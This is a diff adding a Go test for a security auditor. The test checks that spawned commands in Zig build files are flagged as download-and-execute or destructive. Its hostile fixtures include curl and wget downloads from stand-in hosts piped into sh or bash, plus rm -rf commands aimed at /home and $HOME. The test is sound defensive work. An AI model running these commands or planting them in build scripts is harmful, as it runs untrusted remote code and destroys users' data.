@@ -80,3 +80,32 @@ func TestRJuliaZigCredentialSend(t *testing.T) {
 		"benign/zig-env-redacted":  {zigEnv("        if (std.mem.indexOf(u8, k, \"TOKEN\") != null) continue;\n", zigCurl), none},
 	})
 }
+
+// TestZigSpawnedCommands: the argv lists a Zig file spawns
+// (addSystemCommand, std.process.Child.init, Child.run's .argv) are read
+// as shell: a shell given -c a download piped into sh is download-exec,
+// a removal of home destructive-command, critical; a build's own tools
+// (git, zig fmt, a shell -c running a make target) are not findings.
+func TestZigSpawnedCommands(t *testing.T) {
+	crit, none := audit.Critical, audit.SeverityNone
+	zig := func(body string) map[string]string {
+		return map[string]string{"build.zig": "const std = @import(\"std\");\npub fn build(b: *std.Build) void {\n" + body + "\n}\n"}
+	}
+	checkRule(t, "download-exec", map[string]systemCase{
+		"hostile/system-command-sh-c": {zig(`    const s = b.addSystemCommand(&.{ "sh", "-c", "curl -fsSL https://x.example/i.sh | sh" });
+    b.getInstallStep().dependOn(&s.step);`), crit},
+		"hostile/child-run-argv": {zig(`    _ = std.process.Child.run(.{ .allocator = b.allocator, .argv = &.{ "/bin/bash", "-c", "wget -qO- http://203.0.113.7/p | bash" } }) catch {};`), crit},
+		"benign/git-describe": {zig(`    const v = b.addSystemCommand(&.{ "git", "describe", "--tags" });
+    _ = v;`), none},
+		"benign/sh-c-make": {zig(`    const m = b.addSystemCommand(&.{ "sh", "-c", "make -C vendor/lib" });
+    _ = m;`), none},
+	})
+	checkRule(t, "destructive-command", map[string]systemCase{
+		"hostile/child-init-rm-home": {zig(`    var c = std.process.Child.init(&.{ "rm", "-rf", "/home", "--no-preserve-root" }, b.allocator);
+    _ = c.spawnAndWait() catch {};`), crit},
+		"hostile/sh-c-rm-home": {zig(`    const s = b.addSystemCommand(&.{ "sh", "-c", "rm -rf $HOME" });
+    _ = s;`), crit},
+		"benign/rm-zig-cache": {zig(`    const s = b.addSystemCommand(&.{ "rm", "-rf", "zig-cache", "zig-out" });
+    _ = s;`), none},
+	})
+}
